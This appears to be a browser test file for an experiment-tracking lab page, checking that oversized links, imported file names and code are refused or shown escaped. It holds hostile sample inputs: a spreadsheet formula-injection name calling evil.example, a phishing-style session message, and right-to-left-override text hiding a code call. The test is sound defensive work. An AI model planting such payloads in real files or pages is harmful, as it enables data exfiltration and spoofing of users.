import { expect, phone, sidewaysScroll, test } from './fixtures.ts';
import { linkTo } from './links.ts';
import { LabFigure } from './pages/LabFigure.ts';
import { OwnPhiFigure } from './pages/OwnPhiFigure.ts';

/** An export of this page that nobody has looked through. */
const exported = (name: string, meanReturn: number[]) =>
  JSON.stringify({
    format: 'reward-to-go experiments',
    version: 1,
    experiments: [
      {
        ...{ id: 'a', name, note: '', colour: 'one', isHidden: false, madeAt: 1, events: [] },
        runs: [
          {
            phi: 'gae',
            seed: 0,
            meanReturn,
            envSteps: [100, 100, 100],
            episodes: [5, 5, 5],
            seconds: [1, 2, 3],
            details: [null, null, null],
            phases: [{ phi: 'gae', from: 0 }],
          },
        ],
      },
    ],
  });

test.use({ viewport: phone });

test('a link with a key of a megabyte, and files with names and numbers that no page writes, are refused or shown visibly, and nothing stands out of the page', async ({
  book,
  page,
}) => {
  await book.open(`/lab/${linkTo(`{"${'x'.repeat(1_000_000)}":1}`)}`);
  const lab = new LabFigure(page.locator('figure#lab'));
  await lab.wake();
  await expect(lab.alert).toContainText(
    /It holds x{79}…, which nobody knows\. The lab is as it was/,
  );
  expect(await sidewaysScroll(page)).toBe(0);

  const words = 'Your session has expired, sign in at evil.example. '.repeat(2_000);
  for (const json of [JSON.stringify(words), JSON.stringify({ view: words, lesson: words })]) {
    await page.evaluate((hash) => location.assign(hash), linkTo(json));
    await expect(lab.alert).toHaveText(
      /^The link could not be opened: what it holds is no experiment\. (An experiment|A view) must be an object[^.]*\. The lab is as it was\.$/,
    );
    expect(await sidewaysScroll(page)).toBe(0);
  }

  // words that open are held in by the page, and code has nothing out of sight
  const long = 'evil.example/'.repeat(9);
  const code = `// \u202e${long}${long}\nconst phi = 1;${' '.repeat(500)}hidden();`;
  const lesson = { settings: 'open', question: long, choices: [long, 'b'], projector: false };
  await page.evaluate(
    (hash) => location.assign(hash),
    linkTo(JSON.stringify({ name: long.slice(0, 60), lesson, code })),
  );
  await expect(lab.link).toContainText(long.slice(0, 60));
  const own = new OwnPhiFigure(page.locator('figure#own-phi'));
  await own.wake();
  await expect(own.offer.getByText('hidden();')).toContainText('\\u{202e}evil.example');
  expect(await sidewaysScroll(page)).toBe(0);
  expect(await own.offer.locator('pre').evaluate((pre) => pre.scrollWidth - pre.clientWidth)).toBe(
    0,
  );

  await lab.openPanel();
  await lab.import('huge.json', exported('huge', [1, 1.7e308, -1.7e308]));
  await expect(lab.panel).toContainText(
    'huge.json: Taken for JSON of experiments, or of a policy. Experiment 1 of 1 is broken',
  );
  for (const [name, shown] of [
    ['ctl\u0001\b\ufffe', 'ctl␁␈\\u{fffe}'],
    ['=HYPERLINK("http://evil.example/?"&A1)\nx', '=HYPERLINK("http://evil.example/?"&A1)␊x'],
    ['\u202e'.repeat(180), `${'\\u{202e}'.repeat(9)}\\u{202e…`],
  ] as const) {
    await lab.import('named.json', exported(name, [10, 11, 12]));
    await expect(lab.history.filter({ hasText: shown })).toBeVisible();
    expect(await sidewaysScroll(page)).toBe(0);
  }
  // the dialog that asks about a table quotes as well
  const cell = `\u202e${'x'.repeat(500)}`;
  await lab.import(`${'y'.repeat(200)}.csv`, `${cell},b\n1,2\n3,4\n`);
  const dialog = page.getByRole('dialog', { name: `Columns of ${'y'.repeat(79)}…` });
  await expect(dialog.getByRole('columnheader').first()).toHaveText(`\\u{202e}${'x'.repeat(71)}…`);
  await dialog.getByRole('button', { name: 'Leave it out' }).click();

  await lab.import('named.json', exported('ctl\u0001', [10, 11, 12]));
  await expect(lab.history.filter({ hasText: 'ctl␁' })).not.toHaveCount(0);
  expect((await lab.download('Download SVG')).contents.toString()).toContain('ctl␁');
  expect((await lab.download('Download PNG')).name).toBe('chart.png');
  // the curves stand in the chart's table under their names
  expect((await lab.data()).map(([experiment]) => experiment)).toContain('ctl␁␈\\u{fffe}');
});
